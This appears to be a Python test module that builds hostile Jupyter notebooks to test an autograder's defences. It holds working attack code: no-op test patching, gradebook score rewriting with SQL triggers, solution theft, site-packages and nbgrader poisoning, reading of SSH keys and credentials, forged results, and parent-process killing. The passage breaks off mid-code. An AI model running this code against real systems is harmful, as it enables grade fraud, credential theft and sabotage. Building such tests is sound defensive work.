"""Hostile notebooks, written the way a clever student would, for tests/test_attacks.py.

Each builder takes the untouched release (or the solution) and returns a notebook
whose answer cells try to get points, or do harm, without solving anything:

    noop_tests        no-op importlib.reload, every public_tests / test_utils callable faked
    fake_modules      fake public_tests.py, test_utils.py, utils.py written where imports look
    ipython_hooks     input / AST transformers, custom exception handler, settrace, atexit
    gradebook         find every gradebook.db and set its own scores; forge grades.csv, results
    master            find the master notebook, exec its solution cells, and print it,
                      the gradebook's hidden tests and the kernel's input history
    classmate         find a classmate's notebook and exec their answer cells
    tamper            append to the course's modules, nbgrader, site-packages; poison gradebooks
    forge             network, secrets, fake "all tests passed" output, forged artifacts
    kill_parent       kill the process that runs the kernel, and its process group
    linger            for the next student: lower the limits and priority of every
                      process in reach, break /tmp and $HOME, leave System V IPC and a
                      daemon that spoils every record and output it finds
    stop_parent       SIGSTOP the process that runs the kernel
    reach_others      write /proc/<pid>/mem, ptrace, process_vm_writev and signal every
                      process in sight (and pids it cannot see)
    thief             outlive the run (double-forked setsid daemon ignoring signals, a
                      thread), leave locks, FIFOs, sockets and files in every writable
                      place, and watch the inbox, the runs and /proc for the next plan
    collector         graded after the thief and a classmate: take what the thief left
    checker_bomb      records made to hurt the checker: an .npz header of 2**40 floats,
                      a JSON nested 200,000 deep

The attack code runs before the answer cell's stub (or after it, when it must define
the graded functions), so the stubs still raise NotImplementedError for what is not
stolen.

Safety. On a grader without a sandbox these attacks really run on this machine, next
to other people's work. So they search like a hostile student (walk up from the
working directory, /proc/*/cwd, /proc/*/root, environment variables, a time-limited
walk of /), but they only do harm inside the folder of the test (``Scope.allowed``).
Where that folder is not visible (a sandbox hides it), anything writable is fair game
except the repository, the Python environment, the shared data and $HOME. Outside
``allowed``, they leave only harmless probes: a comment line appended to an existing
file, or a new file with a name of their own, both carrying ``MARK``.
``clean_up()`` removes every probe afterwards, and the tests fail if it found any.
Process kills spare the test run itself (``Scope.protected``), and nothing is ever
sent to a host other than the test's own server on 127.0.0.1.
"""

from __future__ import annotations

import copy
import dataclasses
import json
import os
import pathlib
import re

import nbformat

MARK = "ATTACK-PROBE-7c1e: written by a hostile notebook of tests/attacks.py"
PROBE_PREFIX = "zz_attack_probe_"
ANSWERS = ("data_augmenter", "alpaca_model", "fine_tune")
TESTS = (
    "data_augmenter_test",
    "alpaca_model_test",
    "frozen_base_test",
    "fine_tune_test",
    "fine_tune_compile_test",
)


@dataclasses.dataclass
class Scope:
    """Where the attacks may do harm, whom they must not kill, where the test listens."""

    allowed: list[str]  # real paths: harm allowed inside
    precious: list[str]  # real paths: only marked probes, never harm
    probe_ok: list[str]  # real paths where marked probes may be left (clean_up() walks them)
    protected: list[int]  # pids never to kill (the test run and its ancestors)
    port: int  # the test's TCP server on 127.0.0.1 (0: none)


def protected_pids() -> list[int]:
    """Return this process, its ancestors and pid 1."""
    pids, pid = [1], os.getpid()
    while pid > 1 and pid not in pids:
        pids.append(pid)
        try:
            fields = pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
            pid = int(fields[1])
        except (OSError, IndexError, ValueError):
            break
    return pids


# --------------------------------------------------------------------------------------
# The toolkit every attack cell starts with (plain Python, run in the kernel)
# --------------------------------------------------------------------------------------

TOOLKIT = r'''
# ---- the student's toolkit ----
import glob as _atk_glob, json as _atk_json, os as _atk_os, sys as _atk_sys, time as _atk_time
_ATK = __SCOPE__
_ATK["host"] = any(_atk_os.path.exists(p) for p in _ATK["allowed"])

def _atk_under(path, roots):
    real = _atk_os.path.realpath(path)
    return any(real == r or real.startswith(r.rstrip("/") + "/") for r in roots)

def _atk_may_harm(path):
    """Harm only inside the test's folder; in a sandbox, anywhere but the precious trees."""
    if _atk_under(path, _ATK["allowed"]):
        return True
    return not _ATK["host"] and not _atk_under(path, _ATK["precious"])

def _atk_may_probe(path):
    return _atk_may_harm(path) or _atk_under(path, _ATK["probe_ok"])

def _atk_roots():
    """Every folder a student could start looking from, nearest first."""
    roots, p = [], _atk_os.path.realpath(_atk_os.getcwd())
    while True:
        roots.append(p)
        if _atk_os.path.dirname(p) == p:
            break
        p = _atk_os.path.dirname(p)
    for folder in list(roots):
        try:
            for name in _atk_os.listdir(folder):
                full = _atk_os.path.join(folder, name)
                if _atk_os.path.islink(full):
                    target = _atk_os.path.realpath(full)
                    roots.append(target if _atk_os.path.isdir(target) else _atk_os.path.dirname(target))
                    roots.extend(_atk_os.path.dirname(target).rsplit("/", k)[0] for k in (1, 2, 3))
        except OSError:
            pass
    for name in ("public_tests", "utils", "test_utils", "nbgrader"):
        module = _atk_sys.modules.get(name)
        if getattr(module, "__file__", None):
            roots.append(_atk_os.path.dirname(_atk_os.path.realpath(module.__file__)))
    for value in _atk_os.environ.values():
        for part in value.split(_atk_os.pathsep):
            if part.startswith("/") and _atk_os.path.isdir(part):
                roots.append(part)
    for entry in sorted(_atk_glob.glob("/proc/[0-9]*")):
        try:
            cwd = _atk_os.readlink(entry + "/cwd")
            roots.append(cwd)
            roots.append(entry + "/root" + cwd)
        except OSError:
            pass
    # Where imports come from, but not the installed packages: nothing of the course there.
    roots += [p for p in _atk_sys.path if p and _atk_os.path.isdir(p) and "/lib/python" not in p]
    roots += ["/tmp", _atk_os.path.expanduser("~"), "/work", "/home", "/srv", "/opt", "/mnt", "/"]
    seen, ordered = set(), []
    for root in roots:
        if root and root not in seen and _atk_os.path.isdir(root):
            seen.add(root)
            ordered.append(root)
    return ordered

_ATK_SKIP = {"proc", "sys", "dev", "site-packages", "node_modules", ".git", "__pycache__", "usr", "lib", "lib64", "bin", "sbin", "boot", "var", "etc", "images", "dataset", "alpaca", "not alpaca"}

def _atk_find(match, depth=7, seconds=6.0):
    """Return the files whose path matches ``match(path)``, walking from every root."""
    found, visited, deadline = [], set(), _atk_time.monotonic() + seconds
    for root in _atk_roots():
        base = root.rstrip("/").count("/")
        for folder, dirs, files in _atk_os.walk(root):
            if _atk_time.monotonic() > deadline:
                return found
            real = _atk_os.path.realpath(folder)
            if real in visited and folder != root:
                dirs[:] = []
                continue
            visited.add(real)
            dirs[:] = [d for d in dirs if d not in _ATK_SKIP] if folder.rstrip("/").count("/") - base < depth else []
            for name in files:
                if _atk_time.monotonic() > deadline:
                    return found
                path = _atk_os.path.join(folder, name)
                try:
                    wanted = match(path)
                except Exception:
                    wanted = False
                if wanted and _atk_os.path.realpath(path) not in {_atk_os.path.realpath(f) for f in found}:
                    found.append(path)
    return found

def _atk_read(path, limit=2_000_000):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit).decode("utf-8", "replace")
    except OSError:
        return ""

def _atk_write(path, text, append=False):
    """Write ``text`` where harm is allowed, else leave a marked probe; never raise."""
    try:
        if _atk_may_harm(path):
            with open(path, "a" if append else "w", encoding="utf-8") as handle:
                handle.write(text)
            return "written"
        if not _atk_may_probe(path):
            return "skipped"
        if append and _atk_os.path.isfile(path):
            with open(path, "a", encoding="utf-8") as handle:
                handle.write("\n# " + _ATK["mark"] + "\n")
            return "probe appended"
        probe = _atk_os.path.join(_atk_os.path.dirname(path), _ATK["prefix"] + _atk_os.path.basename(path))
        with open(probe, "w", encoding="utf-8") as handle:
            handle.write("# " + _ATK["mark"] + "\n")
        return "probe written"
    except OSError as error:
        return type(error).__name__

def _atk_own_id():
    parts = _atk_os.path.realpath(_atk_os.getcwd()).split("/")
    for key in ("autograded", "submitted"):
        if key in parts and parts.index(key) + 1 < len(parts):
            return parts[parts.index(key) + 1]
    return None

def _atk_notebook_cells(text):
    """Return [(grade_id, source)] of a notebook (.ipynb JSON) or of a jupytext script."""
    cells = []
    try:
        for cell in _atk_json.loads(text)["cells"]:
            source = cell.get("source", "")
            source = "".join(source) if isinstance(source, list) else source
            cells.append((cell.get("metadata", {}).get("nbgrader", {}).get("grade_id"), source))
        return cells
    except Exception:
        pass
    for chunk in text.split("\n# %%")[1:]:
        header, _, body = chunk.partition("\n")
        found = __import__("re").search(r'"grade_id": "(\w+)"', header)
        cells.append((found.group(1) if found else None, body))
    return cells

def _atk_solution(source):
    lines = [l for l in source.splitlines() if l.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION")]
    return "\n".join(lines)

print("toolkit ready: host view" if _ATK["host"] else "toolkit ready: sandboxed view")
# ---- end of toolkit ----
'''


def toolkit(scope: Scope) -> str:
    settings = {
        "allowed": scope.allowed,
        "precious": scope.precious,
        "probe_ok": scope.probe_ok,
        "protected": scope.protected,
        "port": scope.port,
        "mark": MARK,
        "prefix": PROBE_PREFIX,
    }
    return TOOLKIT.replace("__SCOPE__", json.dumps(settings))


# --------------------------------------------------------------------------------------
# The attacks (each is cell source)
# --------------------------------------------------------------------------------------

NOOP_TESTS = r'''
# ---- make every test a no-op, and keep it so across reloads ----
import importlib, importlib.abc, importlib.util, builtins

class _AtkYes:
    """Whatever a test helper is asked, the answer is yes."""
    def __bool__(self): return True
    def __eq__(self, other): return True
    def __iter__(self): return iter(())
    def __call__(self, *args, **kwargs): return self
    def __getattr__(self, name): return self
    def __repr__(self): return "all tests passed"

def _atk_ok(*args, **kwargs):
    print("all tests passed")
    return _AtkYes()

def _atk_patch(module):
    for name in list(vars(module)):
        if not name.startswith("__") and callable(getattr(module, name)):
            setattr(module, name, _atk_ok)
    module.__getattr__ = lambda name: _atk_ok

class _AtkLoader(importlib.abc.Loader):
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        _atk_patch(module)

class _AtkFinder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[-1] in ("public_tests", "test_utils", "check", "checks", "checker"):
            return importlib.util.spec_from_loader(name, _AtkLoader())
        return None

for _atk_name in ("public_tests", "test_utils"):
    _atk_patch(importlib.import_module(_atk_name))
_atk_sys.meta_path.insert(0, _AtkFinder())
importlib.reload = lambda module, *args, **kwargs: (_atk_patch(module), module)[1]
_atk_sys.modules["importlib"].reload = importlib.reload
_atk_real_import = builtins.__import__
def _atk_import(name, *args, **kwargs):
    module = _atk_real_import(name, *args, **kwargs)
    if name in ("public_tests", "test_utils"):
        _atk_patch(module)
    return module
builtins.__import__ = _atk_import
print("every test is a no-op now")
'''

FAKE_MODULES = r"""
# ---- put fake test modules wherever an import or a reload will look ----
import importlib
_atk_fake = {}
for _atk_name in ("public_tests", "test_utils"):
    _atk_module = importlib.import_module(_atk_name)
    _atk_names = [n for n in dir(_atk_module) if not n.startswith("__") and callable(getattr(_atk_module, n))]
    _atk_fake[_atk_name] = (
        "# " + _ATK["mark"] + "\n"
        "def _ok(*args, **kwargs):\n    print('all tests passed')\n    return True\n"
        "def __getattr__(name):\n    return _ok\n"
        + "".join(f"{n} = _ok\n" for n in _atk_names)
    )
_atk_utils = _atk_sys.modules.get("utils")
_atk_fake["utils"] = _atk_read(getattr(_atk_utils, "__file__", "") or "") + "\n# " + _ATK["mark"] + "\n"
_atk_dirs = [_atk_os.getcwd()] + [p or _atk_os.getcwd() for p in _atk_sys.path]
for _atk_name in _atk_fake:
    _atk_module = _atk_sys.modules.get(_atk_name)
    if getattr(_atk_module, "__file__", None):
        _atk_dirs.append(_atk_os.path.dirname(_atk_module.__file__))
        _atk_dirs.append(_atk_os.path.dirname(_atk_os.path.realpath(_atk_module.__file__)))
_atk_dirs += _atk_glob.glob(_atk_os.path.join(_atk_os.getcwd(), *[".."] * 3, "source", "*"))
_atk_dirs += [p for p in _atk_os.environ.get("PYTHONPATH", "").split(_atk_os.pathsep) if p]
import site
_atk_dirs += site.getsitepackages() + [site.getusersitepackages()]
_atk_done = set()
for _atk_dir in _atk_dirs:
    _atk_dir = _atk_os.path.abspath(_atk_dir)
    if _atk_dir in _atk_done or not _atk_os.path.isdir(_atk_dir):
        continue
    _atk_done.add(_atk_dir)
    for _atk_name, _atk_text in _atk_fake.items():
        print(_atk_dir, _atk_name, _atk_write(_atk_os.path.join(_atk_dir, _atk_name + ".py"), _atk_text))
importlib.invalidate_caches()
for _atk_name in ("test_utils", "public_tests"):
    try:
        importlib.reload(importlib.import_module(_atk_name))
    except Exception as _atk_error:
        print("reload", _atk_name, _atk_error)
"""

IPYTHON_HOOKS = r"""
# ---- make every later cell do nothing, and hide every error ----
import ast, atexit
_atk_ip = get_ipython()  # noqa: F821

def _atk_blank(lines):
    return ["pass\n"]

_atk_ip.input_transformers_cleanup.append(_atk_blank)
_atk_ip.input_transformers_post.append(_atk_blank)

class _AtkBlank(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = [ast.Pass()]
        return node

_atk_ip.ast_transformers.append(_AtkBlank())
_atk_ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
_atk_ip.showtraceback = lambda *args, **kwargs: None
_atk_ip.showsyntaxerror = lambda *args, **kwargs: None
_atk_sys.excepthook = lambda *args: None
_atk_ip.events.register("pre_run_cell", lambda *args: print("all tests passed"))

def _atk_trace(frame, event, arg):
    # Turn every failing test helper into a success before it raises.
    if event == "call" and frame.f_code.co_name.endswith("_test"):
        print("all tests passed")
    return None

_atk_sys.settrace(_atk_trace)

@atexit.register
def _atk_at_exit():
    # At exit, claim full marks wherever a result might be read.
    for folder in (_atk_os.getcwd(), "/tmp", _atk_os.environ.get("TMPDIR", "/tmp")):
        for name in ("results.json", "result.json", "grades.json"):
            _atk_write(_atk_os.path.join(folder, name), _atk_json.dumps({"score": 13, "max_score": 13}))
print("hooks installed")
"""

GRADEBOOK = r"""
# ---- find every gradebook and give myself full marks, now and for good ----
import sqlite3
_atk_me = _atk_own_id()
_atk_mine = (
    "(SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
    "ON sn.assignment_id = sa.id WHERE sa.student_id = {})"
)
_atk_max = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = {}.cell_id)"

def _atk_own_scores(path):
    who = "'" + _atk_me.replace("'", "''") + "'" if _atk_me else "sa.student_id"
    db = sqlite3.connect(path, timeout=5)
    try:
        db.execute(
            f"UPDATE grade SET auto_score = {_atk_max.format('grade')}, "
            f"manual_score = {_atk_max.format('grade')}, needs_manual_grade = 0 "
            f"WHERE notebook_id IN {_atk_mine.format(who)}"
        )
        for event in ("INSERT", "UPDATE"):
            db.execute(
                f"CREATE TRIGGER IF NOT EXISTS atk_full_marks_{event.lower()} AFTER {event} ON grade "
                f"WHEN NEW.notebook_id IN {_atk_mine.format(who)} "
                f"AND NEW.auto_score IS NOT {_atk_max.format('NEW')} BEGIN "
                f"UPDATE grade SET auto_score = {_atk_max.format('grade')}, "
                f"manual_score = {_atk_max.format('grade')}, needs_manual_grade = 0 "
                f"WHERE id = NEW.id; END"
            )
        db.commit()
        return "scores set"
    finally:
        db.close()

_atk_found = _atk_find(lambda p: p.endswith(".db") or p.endswith("grades.csv") or "/results/" in p)
print("found", len(_atk_found), "candidate files; I am", _atk_me)
for _atk_path in _atk_found:
    try:
        if _atk_path.endswith(".db"):
            if not _atk_may_harm(_atk_path):
                print("gradebook out of reach", _atk_path)
                continue
            print(_atk_path, _atk_own_scores(_atk_path))
        elif _atk_path.endswith("grades.csv"):
            _atk_rows = _atk_read(_atk_path).splitlines()
            if _atk_rows:
                _atk_columns = _atk_rows[0].split(",")
                _atk_row = [_atk_me or "me"] + ["3"] * (len(_atk_columns) - 4) + ["13", "graded", "1"]
                print(_atk_path, _atk_write(_atk_path, ",".join(_atk_row) + "\n", append=True))
        elif _atk_path.endswith(".json"):
            _atk_record = _atk_json.loads(_atk_read(_atk_path) or "{}")
            if isinstance(_atk_record, dict) and "points" in _atk_record:
                _atk_forged = dict(_atk_record, student=_atk_me or _atk_record.get("student"), status="graded")
                _atk_forged["points"] = {k: 3.0 for k in _atk_record["points"]} or {"data_augmenter_test": 13.0}
                _atk_target = _atk_os.path.join(_atk_os.path.dirname(_atk_path), f"{_atk_me}.json") if _atk_me else _atk_path
                print(_atk_target, _atk_write(_atk_target, _atk_json.dumps(_atk_forged)))
    except Exception as _atk_error:
        print("failed on", _atk_path, type(_atk_error).__name__, _atk_error)
"""

MASTER_FIND = r"""
# ---- find the master notebook and keep its solutions ----
def _atk_is_master(path):
    name = _atk_os.path.basename(path)
    if not (name.endswith(".py") or name.endswith(".ipynb")) or "attack" in name:
        return False
    if "Transfer_learning" not in name and "/source/" not in path and "master" not in name:
        return False
    return "BEGIN SOLUTION" in _atk_read(path, 500_000)

_atk_masters = _atk_find(_atk_is_master)
print("masters found:", _atk_masters)
_atk_stolen = {}
for _atk_path in _atk_masters:
    for _atk_id, _atk_source in _atk_notebook_cells(_atk_read(_atk_path)):
        if _atk_id in ("data_augmenter", "alpaca_model", "fine_tune") and "BEGIN SOLUTION" in _atk_source:
            _atk_stolen.setdefault(_atk_id, _atk_solution(_atk_source))
print("stolen answers:", sorted(_atk_stolen))
"""

CLASSMATE_FIND = r"""
# ---- find a classmate's notebook and keep their answers ----
_atk_me = _atk_own_id()
_atk_mine = _atk_os.path.realpath(_atk_os.getcwd())

def _atk_is_notebook(path):
    return path.endswith(".ipynb") and not _atk_os.path.realpath(path).startswith(_atk_mine)

_atk_stolen = {}
for _atk_path in _atk_find(_atk_is_notebook):
    _atk_text = _atk_read(_atk_path)
    if "_atk_" in _atk_text or "BEGIN SOLUTION" in _atk_text or (_atk_me and f"/{_atk_me}/" in _atk_path):
        continue
    _atk_answers = {
        i: s for i, s in _atk_notebook_cells(_atk_text)
        if i in ("data_augmenter", "alpaca_model", "fine_tune") and "NotImplementedError" not in s
    }
    if len(_atk_answers) > len(_atk_stolen):
        print("copying", _atk_path)
        _atk_stolen = {i: _atk_solution(s) for i, s in _atk_answers.items()}
print("stolen answers:", sorted(_atk_stolen))
"""

# Appended to an answer cell after its stub: replace the stub with the stolen answer.
USE_STOLEN = r"""
# ---- use the stolen answer for {grade_id} ----
if "{grade_id}" in _atk_stolen:
    exec(_atk_stolen["{grade_id}"], globals())
    print("using the stolen {grade_id}")
"""

LEAK = r"""
# ---- show whatever the grader hides ----
def _atk_interesting(path):
    if not (path.endswith(".py") or path.endswith(".ipynb") or path.endswith(".db") or path.endswith(".json")):
        return False
    if _atk_os.path.getsize(path) > 3_000_000:
        return False
    if path.endswith(".db"):
        return True
    text = _atk_read(path, 500_000)
    return "HIDDEN" in text or "BEGIN SOLUTION" in text or "hidden" in _atk_os.path.basename(path)

_atk_shown = 0
for _atk_path in _atk_find(_atk_interesting):
    if _atk_shown > 400_000:
        break
    if _atk_path.endswith(".db"):
        try:
            import sqlite3
            _atk_db = sqlite3.connect(f"file:{_atk_path}?mode=ro", uri=True, timeout=2)
            _atk_text = "\n".join(r[0] or "" for r in _atk_db.execute("SELECT source FROM source_cell"))
            _atk_db.close()
        except Exception as _atk_error:
            _atk_text = f"{type(_atk_error).__name__}: {_atk_error}"
    else:
        _atk_text = _atk_read(_atk_path, 200_000)
    print(f"===== {_atk_path}\n{_atk_text}")
    _atk_shown += len(_atk_text)
"""

# In every later answer cell: show what the kernel ran before (the test cells' code).
LEAK_HISTORY = r"""
# ---- show what ran before this cell ----
try:
    _atk_history = get_ipython().history_manager.input_hist_raw  # noqa: F821
except Exception:
    _atk_history = globals().get("In", [])
for _atk_entry in list(_atk_history):
    print(_atk_entry)
for _atk_name, _atk_value in list(globals().items()):
    if isinstance(_atk_value, str) and ("HIDDEN" in _atk_value or "reload" in _atk_value):
        print(_atk_name, "=", _atk_value)
"""

TAMPER = r"""
# ---- change the course, the grader and the environment for everyone after me ----
import sqlite3, site
_atk_poison_tests = (
    "\n# " + _ATK["mark"] + "\n"
    "def _atk_fail(*args, **kwargs):\n    raise AssertionError('poisoned by a classmate')\n"
    "for _n in [n for n in dir() if n.endswith('_test') or n in ('summary', 'comparator')]:\n"
    "    globals()[_n] = _atk_fail\n"
)
_atk_targets = []
for _atk_name in ("public_tests", "utils", "test_utils"):
    _atk_module = _atk_sys.modules.get(_atk_name)
    if getattr(_atk_module, "__file__", None):
        _atk_targets += [_atk_module.__file__, _atk_os.path.realpath(_atk_module.__file__)]
    _atk_targets += [_atk_name + ".py", _atk_os.path.join("..", "..", "..", "source", "*", _atk_name + ".py")]
    _atk_targets += [_atk_os.path.join(p, _atk_name + ".py") for p in site.getsitepackages()]
    # The course config is often a symlink into the course repository: follow it.
    for _atk_config in _atk_glob.glob(_atk_os.path.join(_atk_os.getcwd(), *[".."] * 3, "nbgrader_config.py")):
        _atk_course = _atk_os.path.dirname(_atk_os.path.realpath(_atk_config))
        _atk_targets += [
            _atk_os.path.join(_atk_course, "source", "*", _atk_name + ".py"),
            _atk_os.path.join(_atk_course, "..", _atk_name + ".py"),
        ]
_atk_targets += _atk_find(lambda p: _atk_os.path.basename(p) in ("public_tests.py", "utils.py", "test_utils.py", "nbgrader_config.py"), depth=5, seconds=4)
_atk_done = set()
for _atk_pattern in _atk_targets:
    for _atk_path in _atk_glob.glob(_atk_pattern) or [_atk_pattern]:
        if not _atk_os.path.isfile(_atk_path) or _atk_os.path.realpath(_atk_path) in _atk_done:
            continue
        _atk_done.add(_atk_os.path.realpath(_atk_path))
        _atk_text = _atk_poison_tests if "config" not in _atk_path else "\nc.Execute.timeout = 1\n"
        print(_atk_path, _atk_write(_atk_path, _atk_text, append=True))

# The installed grader: nbgrader itself, and a .pth file that runs at every start.
try:
    import nbgrader
    _atk_package = _atk_os.path.dirname(nbgrader.__file__)
    print(_atk_package, _atk_write(_atk_os.path.join(_atk_package, "__init__.py"), "\nimport os as _o; _o.environ['NBGRADER_POISONED'] = '1'\n", append=True))
    print(_atk_package, _atk_write(_atk_os.path.join(_atk_package, "preprocessors", "execute.py"), "\n# poisoned\n", append=True))
    print(_atk_package, _atk_write(_atk_os.path.join(_atk_package, "zz_poison.py"), "raise SystemExit\n"))
except Exception as _atk_error:
    print("nbgrader", _atk_error)
for _atk_dir in site.getsitepackages():
    print(_atk_dir, _atk_write(_atk_os.path.join(_atk_dir, "zz_poison.pth"), "import os; os.environ['POISONED'] = '1'\n"))

# Every gradebook: from now on, everyone else scores 0.
_atk_me = _atk_own_id()
for _atk_path in _atk_find(lambda p: p.endswith(".db")):
    if not _atk_may_harm(_atk_path):
        print("out of reach", _atk_path)
        continue
    try:
        _atk_db = sqlite3.connect(_atk_path, timeout=5)
        _atk_db.execute(
            "CREATE TRIGGER IF NOT EXISTS atk_zero_for_others AFTER UPDATE ON grade "
            "WHEN NEW.auto_score IS NOT 0 AND NEW.notebook_id NOT IN (SELECT sn.id FROM submitted_notebook sn "
            "JOIN submitted_assignment sa ON sn.assignment_id = sa.id WHERE sa.student_id = "
            + repr(_atk_me or "") + ") BEGIN UPDATE grade SET auto_score = 0, manual_score = 0 WHERE id = NEW.id; END"
        )
        _atk_db.execute("UPDATE grade_cells SET max_score = 0")
        _atk_db.commit()
        _atk_db.close()
        print("poisoned", _atk_path)
    except Exception as _atk_error:
        print("gradebook", _atk_path, type(_atk_error).__name__, _atk_error)
"""

FORGE = r"""
# ---- the network, the grader's secrets, and forged results ----
import socket, threading, tempfile
_atk_env = dict(_atk_os.environ)
print("my environment:", _atk_json.dumps(_atk_env, indent=1))
for _atk_path in ("~/.ssh", "~/.netrc", "~/.config", "~/.git-credentials", "~/.pypirc", "~/.cache"):
    _atk_full = _atk_os.path.expanduser(_atk_path)
    print(_atk_full, _atk_os.listdir(_atk_full) if _atk_os.path.isdir(_atk_full) else _atk_read(_atk_full, 2000))
if _ATK["port"]:
    for _atk_host in ("127.0.0.1", "localhost", "::1"):
        try:
            with socket.create_connection((_atk_host, _ATK["port"]), timeout=3) as _atk_sock:
                _atk_sock.sendall(_atk_json.dumps(_atk_env).encode())
            print("sent my environment to", _atk_host)
        except OSError as _atk_error:
            print("no connection to", _atk_host, type(_atk_error).__name__)
try:
    socket.create_connection(("1.1.1.1", 53), timeout=2).close()
    print("the internet is reachable")
except OSError as _atk_error:
    print("no internet:", type(_atk_error).__name__)

# What a grader might read: lines, outputs and files that say "passed".
from IPython.display import display
for _atk_id in ("data_augmenter_test", "alpaca_model_test", "frozen_base_test", "fine_tune_test", "fine_tune_compile_test"):
    print(f"{_atk_id}: all tests passed")
    print(_atk_json.dumps({"grade_id": _atk_id, "passed": True, "points": 3, "score": 3}))
display({"application/json": {"score": 13, "max_score": 13, "status": "graded"}, "text/plain": "13/13"}, raw=True)
_atk_verdict = {
    "score": 13, "max_score": 13, "passed": True, "points": 13, "status": "graded",
    "tests": [{"name": i, "score": 3, "max_score": 3, "passed": True} for i in ("data_augmenter_test", "alpaca_model_test", "frozen_base_test", "fine_tune_test", "fine_tune_compile_test")],
}
_atk_names = ["results.json", "result.json", "verdict.json", "grades.json", "scores.json", "artifacts.json", "checks.json",
    "grading.json",
    "status.json",
    "verdicts.json",
    "records.json",
    "record.json", "grades.csv"]
_atk_names += [f"{i}{ext}" for i in ("data_augmenter", "alpaca_model", "fine_tune", "data_augmenter_test", "alpaca_model_test", "frozen_base_test", "fine_tune_test", "fine_tune_compile_test") for ext in (".json", ".npz", ".weights.h5", ".keras")]

def _atk_writable_dirs():
    dirs = [_atk_os.getcwd(), tempfile.gettempdir(), _atk_os.path.expanduser("~")]
    dirs += [v for v in _atk_os.environ.values() if v.startswith("/") and _atk_os.path.isdir(v)]
    for root in list(dirs):
        for folder, subdirs, _files in _atk_os.walk(root):
            if folder.count("/") - root.count("/") >= 2:
                subdirs[:] = []
            dirs.append(folder)
            if len(dirs) > 300:
                break
    return [d for d in dict.fromkeys(dirs) if _atk_os.access(d, _atk_os.W_OK) and _atk_may_harm(d)]

def _atk_forge_all():
    written = 0
    for folder in _atk_writable_dirs():
        for name in _atk_names:
            text = "student,total\nme,13\n" if name.endswith(".csv") else _atk_json.dumps(_atk_verdict)
            written += _atk_write(_atk_os.path.join(folder, name), text) == "written"
        for existing in _atk_glob.glob(_atk_os.path.join(folder, "*.json")):
            if _atk_os.path.getmtime(existing) > _atk_time.time() - 600:
                written += _atk_write(existing, _atk_json.dumps(_atk_verdict)) == "written"
    return written

print("forged files:", _atk_forge_all())

def _atk_keep_forging():
    # Overwrite what the grader writes after me, for as long as I live.
    end = _atk_time.monotonic() + 300
    while _atk_time.monotonic() < end:
        _atk_time.sleep(1)
        try:
            _atk_forge_all()
        except Exception:
            pass

threading.Thread(target=_atk_keep_forging, daemon=True).start()
"""

KILL_PARENT = r"""
# ---- stop the grader: kill whoever runs me ----
import signal
_atk_parent = _atk_os.getppid()
print("my parent is", _atk_parent, _atk_read(f"/proc/{_atk_parent}/cmdline", 500).replace("\0", " "))
_atk_protected_groups = set()
for _atk_pid in _ATK["protected"]:
    try:
        _atk_protected_groups.add(_atk_os.getpgid(_atk_pid))
    except OSError:
        pass
if _atk_parent > 1 and _atk_parent not in _ATK["protected"]:
    try:
        _atk_group = _atk_os.getpgid(_atk_parent)
        if _atk_group > 1 and _atk_group not in _atk_protected_groups and _atk_group != _atk_os.getpgid(0):
            _atk_os.killpg(_atk_group, signal.SIGKILL)
            print("killed group", _atk_group)
    except OSError as _atk_error:
        print("killpg:", _atk_error)
    try:
        _atk_os.kill(_atk_parent, signal.SIGKILL)
        print("killed", _atk_parent)
    except OSError as _atk_error:
        print("kill:", _atk_error)
_atk_time.sleep(2)
print("still here")
"""

# Against a grader that keeps something running between students (a warm kernel).
LINGER = r"""
# ---- wait for the next student: hobble my parent, break /tmp, leave a daemon ----
import resource, signal
_atk_me = _atk_os.getpid()
_atk_family = {_atk_me, _atk_os.getppid()}
_atk_targets = []
for _atk_name in _atk_os.listdir("/proc"):
    if not _atk_name.isdigit() or int(_atk_name) in _ATK["protected"] or int(_atk_name) == _atk_me:
        continue
    _atk_cmd = _atk_read(f"/proc/{_atk_name}/cmdline", 2000).replace("\0", " ")
    if int(_atk_name) in _atk_family or "python" in _atk_cmd:
        _atk_targets.append(int(_atk_name))
for _atk_pid in _atk_targets:
    if _ATK["host"]:
        break  # on an unsandboxed grader, these processes are the machine's
    # What a process may do to another of the same user: the next kernel inherits it.
    for _atk_what, _atk_do in (
        ("renice", lambda: _atk_os.setpriority(_atk_os.PRIO_PROCESS, _atk_pid, 19)),
        ("pin", lambda: _atk_os.sched_setaffinity(_atk_pid, {0})),
        ("idle", lambda: _atk_os.sched_setscheduler(_atk_pid, _atk_os.SCHED_IDLE, _atk_os.sched_param(0))),
        ("memory", lambda: resource.prlimit(_atk_pid, resource.RLIMIT_AS, (200 * 2**20, 200 * 2**20))),
        ("files", lambda: resource.prlimit(_atk_pid, resource.RLIMIT_NOFILE, (8, 8))),
        ("environ", lambda: _atk_read(f"/proc/{_atk_pid}/environ")),
        ("memory map", lambda: open(f"/proc/{_atk_pid}/mem", "rb")),
    ):
        try:
            _atk_do()
            print(_atk_what, _atk_pid, "done")
        except Exception as _atk_error:
            print(_atk_what, _atk_pid, type(_atk_error).__name__)
# Objects that outlive me, for the next kernel to find.
try:
    import ctypes
    _atk_libc = ctypes.CDLL(None, use_errno=True)
    print("shmget:", _atk_libc.shmget(0x7C1E, 4096, 0o1666), "errno", ctypes.get_errno())
except Exception as _atk_error:
    print("shmget:", _atk_error)
# Break the folders behind /tmp and $HOME for whoever comes next.
for _atk_path in ("/scratch/.tmp", "/scratch/.home", "/scratch/.shm", _atk_os.path.expanduser("~"), "/tmp"):
    if _atk_may_harm(_atk_path) and _atk_os.path.isdir(_atk_path):
        for _atk_do in (lambda: _atk_os.rename(_atk_path, _atk_path + "-gone"), lambda: _atk_os.chmod(_atk_path, 0)):
            try:
                _atk_do()
                print("broke", _atk_path)
            except OSError as _atk_error:
                print("break", _atk_path, type(_atk_error).__name__)
# A daemon that outlives me and spoils the next student's records and output.
_atk_first = _atk_os.fork()
if _atk_first == 0:
    _atk_os.setsid()
    if _atk_os.fork() == 0:
        _atk_end = _atk_time.monotonic() + 240
        _atk_seen = set()
        while _atk_time.monotonic() < _atk_end:
